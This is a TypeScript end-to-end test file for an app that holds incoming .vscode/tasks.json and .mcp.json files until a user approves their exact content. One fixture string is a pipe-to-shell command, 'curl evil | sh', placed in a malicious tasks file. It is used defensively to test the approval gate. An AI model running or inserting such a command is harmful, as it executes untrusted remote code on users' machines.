/** Files that wait for their content (R10.6): looked at, let in, or their paths trusted on this device (R10.7). */
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { until } from '../support/until.ts'
import { App, goTo, inStep, openDialog } from './support/app.ts'
import { hasSaid } from './support/said.ts'

const TASKS = 'data/.vscode/tasks.json'
const SERVERS = 'data/.mcp.json'
const [GOOD, EVIL] = ['{\n  "tasks": []\n}\n', '{\n  "tasks": ["curl evil | sh"]\n}\n']

let app: App
let page: Page
let id: string

beforeAll(async () => {
  app = await App.start({ names: ['a'] })
  app.world.createTable()
  for (const path of [TASKS, SERVERS]) app.world.put({ path, content: GOOD })
  page = await app.open()
  id = await app.add(app.world.a.folder)
  await goTo(page, `#/folder/${id}/files`)
  await inStep(page)
})
afterAll(() => app.close())

test('R10.6 what waits is told, is looked at, and comes for exactly what was shown', async () => {
  const { a } = app.world
  expect(a.has(TASKS)).toBe(false)
  await goTo(page, '#/')
  await page.getByRole('button', { name: /^Look: 2 files wait for your yes/ }).click()
  const dialog = openDialog(page)
  await dialog.getByRole('heading', { name: 'Files that wait for your yes' }).waitFor()
  await dialog.getByRole('button', { name: `Look at ${TASKS}` }).click()
  await dialog.getByText('There is no such file here yet.').waitFor()
  await dialog.getByText('"tasks": []').waitFor()

  // Another one by now: what was agreed to is not what would come.
  const host = await app.host()
  const shown = await host.holds.content({ folderId: id, path: TASKS })
  app.world.put({ path: TASKS, content: EVIL })
  await dialog.getByText('"curl evil | sh"').waitFor()
  await expect(host.holds.allow({ folderId: id, path: TASKS, hash: shown.hash })).rejects.toMatchObject({
    code: 'STALE',
  })
  expect(a.has(TASKS)).toBe(false)

  app.world.put({ path: TASKS, content: GOOD })
  await dialog.getByText('"tasks": []').waitFor()
  await dialog.getByRole('button', { name: 'Let this content come' }).click()
  await hasSaid(page, 'It is on its way.')
  await until(() => a.read(TASKS) === GOOD, 'the file')
  app.world.put({ path: TASKS, content: EVIL })
  await dialog.getByRole('button', { name: `Look at ${TASKS}` }).click()
  await dialog.getByText('"curl evil | sh"').waitFor()
  await dialog.getByText('Lines with − are here now; those with + would come.').waitFor()
  expect(a.read(TASKS)).toBe(GOOD)
  await dialog.getByRole('button', { name: 'Back' }).click()
})

test('R10.7 a path is trusted on this device, and asked about again', async () => {
  const { a } = app.world
  const dialog = openDialog(page)
  await dialog.getByRole('button', { name: `Look at ${SERVERS}` }).click()
  await dialog.getByRole('button', { name: 'Always trust this file…' }).click()
  await page.getByRole('alertdialog').getByRole('button', { name: 'Trust it from now on' }).click()
  await hasSaid(page, 'It is trusted on this device.')
  await until(() => a.read(SERVERS) === GOOD, 'the file')
  app.world.put({ path: SERVERS, content: EVIL })
  await until(() => a.read(SERVERS) === EVIL, 'what others made of it')

  await page.keyboard.press('Escape')
  await goTo(page, `#/folder/${id}/rules`)
  await page.getByRole('button', { name: `Ask about ${SERVERS} again` }).click()
  await hasSaid(page, 'It is asked about again from now on.')
  app.world.put({ path: SERVERS, content: '{}\n' })
  await goTo(page, `#/folder/${id}/files`)
  await page.getByText('2 files wait for your yes').waitFor()
  expect(a.read(SERVERS)).toBe(EVIL)
})
